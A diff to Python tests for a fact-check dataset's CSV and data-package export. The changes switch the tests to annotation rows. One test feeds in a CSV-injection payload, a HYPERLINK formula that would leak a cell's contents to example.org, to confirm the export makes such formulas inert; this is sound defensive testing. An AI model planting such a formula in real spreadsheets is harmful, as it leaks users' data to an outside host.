@@ -14,6 +14,7 @@ from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 
 from factcheck.dataset.columns import COLUMNS, to_row
+from factcheck.dataset.consensus import read_answers
 from factcheck.dataset.export import About
 from factcheck.dataset.export.frictionless import read_rows
 from factcheck.dataset.reading import open_dataset
@@ -56,10 +57,10 @@ def test_read_rows_gives_back_every_row(
     dataset: Dataset, tmp_path: Path, *, for_excel: bool
 ) -> None:
     """With formulas, quotes and all kinds of line breaks; also from a table for Excel."""
-    table, _ = exported(tmp_path, dataset, "csv", for_excel=for_excel)
+    table, _ = exported(tmp_path, dataset, "csv", for_excel=for_excel, rows="annotations")
 
     with open_dataset(tmp_path / "claims.json") as opened:
-        assert list(read_rows(table)) == [to_row(each) for each in opened.claims()]
+        assert list(read_rows(table)) == [to_row(each, COLUMNS) for each in read_answers(opened)]
 
 
 @settings(PLAIN, max_examples=25)
@@ -69,7 +70,7 @@ def test_any_export_is_a_valid_data_package(
     dataset: Dataset, tmp_path: Path, *, for_excel: bool
 ) -> None:
     """Types, allowed values, keys and hash."""
-    _, package = exported(tmp_path, dataset, "csv", for_excel=for_excel)
+    _, package = exported(tmp_path, dataset, "csv", for_excel=for_excel, rows="annotations")
 
     report = report_of(package)
 
@@ -78,7 +79,7 @@ def test_any_export_is_a_valid_data_package(
 
 def test_an_empty_dataset_is_a_valid_data_package(tmp_path: Path) -> None:
     """The table has only its headings."""
-    table, package = exported(tmp_path, EMPTY, "csv")
+    table, package = exported(tmp_path, EMPTY, "csv", rows="annotations")
 
     assert report_of(package).valid
     assert table.read_text("utf-8") == ",".join(f'"{each.name}"' for each in COLUMNS) + "\n"
@@ -86,7 +87,7 @@ def test_an_empty_dataset_is_a_valid_data_package(tmp_path: Path) -> None:
 
 def test_the_package_detects_a_wrong_table(tmp_path: Path) -> None:
     """An unknown verdict, and a score of 2."""
-    table, package = exported(tmp_path, DATASET, "csv")
+    table, package = exported(tmp_path, DATASET, "csv", rows="annotations")
     text = table.read_text("utf-8").replace("Supported", "Maybe").replace("0.75", "2")
     table.write_text(text, encoding="utf-8", newline="")
 
@@ -97,7 +98,7 @@ def test_the_package_detects_a_wrong_table(tmp_path: Path) -> None:
 
 def test_the_package_gives_rows_their_types(tmp_path: Path) -> None:
     """Lists, date-times, numbers, and None for an empty cell."""
-    _, package = exported(tmp_path, DATASET, "csv")
+    _, package = exported(tmp_path, DATASET, "csv", rows="annotations")
 
     first, second = frictionless.Package(str(package)).get_resource("claims").read_rows()
 
@@ -114,7 +115,7 @@ def test_the_package_gives_rows_their_types(tmp_path: Path) -> None:
 def test_no_cell_runs_in_a_spreadsheet(tmp_path: Path) -> None:
     """The cell is text; `read_rows` gives the note back."""
     note = '=HYPERLINK("https://example.org/?leak="&A1)'
-    table, _ = exported(tmp_path, hostile(note), "csv")
+    table, _ = exported(tmp_path, hostile(note), "csv", rows="annotations")
 
     with table.open(encoding="utf-8", newline="") as file:
         cells = [cell for cells in csv.reader(file) for cell in cells]
@@ -145,7 +146,7 @@ def test_no_cell_is_a_formula_whatever_separates_cells(
     """Read with a comma, a semicolon, a tab or a bar; in texts and in lists; nothing is lost."""
     title, url = title.replace("\0", ""), "https://example.org/" + quote(path, safe=";=+-@,")
     dataset = hostile(note, title, url)
-    table, _ = exported(tmp_path, dataset, "csv")
+    table, _ = exported(tmp_path, dataset, "csv", rows="annotations")
 
     for separator in ",;\t|":
         with table.open(encoding="utf-8", newline="") as file:
@@ -159,7 +160,7 @@ def test_no_cell_is_a_formula_whatever_separates_cells(
 
 def test_a_table_for_excel_is_marked_as_utf_8(tmp_path: Path) -> None:
     """With a byte order mark, without which Excel takes Arabic for something else."""
-    table, _ = exported(tmp_path, DATASET, "csv", for_excel=True)
+    table, _ = exported(tmp_path, DATASET, "csv", for_excel=True, rows="annotations")
 
     assert table.read_bytes().startswith(b'\xef\xbb\xbf"id",')
     assert pd.read_csv(table)["text"].tolist()[1] == "إن اللقاء تم"
@@ -167,7 +168,7 @@ def test_a_table_for_excel_is_marked_as_utf_8(tmp_path: Path) -> None:
 
 def test_a_table_for_excel_has_no_cell_that_it_takes_for_a_number(tmp_path: Path) -> None:
     """Texts begin with an apostrophe then; times stay times."""
-    table, _ = exported(tmp_path, ODD, "csv", for_excel=True)
+    table, _ = exported(tmp_path, ODD, "csv", for_excel=True, rows="annotations")
 
     frame = pd.read_csv(table, keep_default_na=False)
     assert frame["id"].tolist() == ["'49680748812e0522", "'5077226609499e98", "'46080e4338067835"]
@@ -188,7 +189,7 @@ def test_only_a_table_can_be_for_excel(tmp_path: Path) -> None:
 def test_pandas_reads_the_table(tmp_path: Path) -> None:
     """A cell with a comma, quotes and line breaks."""
     note = 'One, "two",\r\nthree'
-    table, _ = exported(tmp_path, hostile(note), "csv")
+    table, _ = exported(tmp_path, hostile(note), "csv", rows="annotations")
 
     frame = pd.read_csv(table)
 
@@ -213,7 +214,7 @@ def test_the_licence_is_what_was_given(licence: str, expected: object, tmp_path:
 
 def test_a_cell_may_be_of_any_length(tmp_path: Path) -> None:
     """Also longer than the 128 KiB that Python's reader accepts by default."""
-    table, _ = exported(tmp_path, hostile("long " * 40_000), "csv")
+    table, _ = exported(tmp_path, hostile("long " * 40_000), "csv", rows="annotations")
 
     assert next(read_rows(table))["evidence_note"] == "long " * 40_000
     assert pd.read_csv(table).evidence_note[0] == "long " * 40_000
